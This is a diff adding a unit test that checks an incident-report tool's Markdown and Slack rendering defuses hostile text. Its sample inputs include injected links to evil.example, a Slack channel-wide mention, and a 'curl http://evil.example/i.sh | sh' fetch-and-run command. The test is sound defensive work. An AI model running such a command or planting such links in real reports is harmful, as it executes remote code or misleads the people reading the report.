@@ -35,3 +35,19 @@ def test_the_window_a_question_names():
     assert window_phrase("what changed since 90 seconds ago") == "90s"
     assert window_phrase("last 1 day of payments") == "1d"
     assert window_phrase("why is checkout failing?") is None
+
+
+def test_captured_and_model_text_never_becomes_a_live_link():
+    from guardian.report import Report, RootCause
+
+    hostile = "GET /x](https://evil.example/p) <https://evil.example|click> <!channel> http://evil.example/y"
+    rep = Report(summary=hostile, suggested_fix="`curl http://evil.example/i.sh | sh`",
+                 root_causes=[RootCause(rank=1, service="svc[1](http://evil.example)", kind="error",
+                                        confidence=0.5, description=hostile)])
+    md = rep.to_markdown()
+    slack = to_mrkdwn(md)
+    assert "](https://evil" not in md and "](http://evil" not in md
+    assert "<https://evil" not in slack and "<http://evil" not in slack and "<!channel>" not in slack
+    # bare URLs sit in code spans, where neither Markdown nor Slack links them
+    assert "`http://evil.example/y`" in slack and "`http://evil.example/i.sh`" in slack
+    assert "# Guardian investigation" in md and "*Summary*" in slack  # our own markup still renders
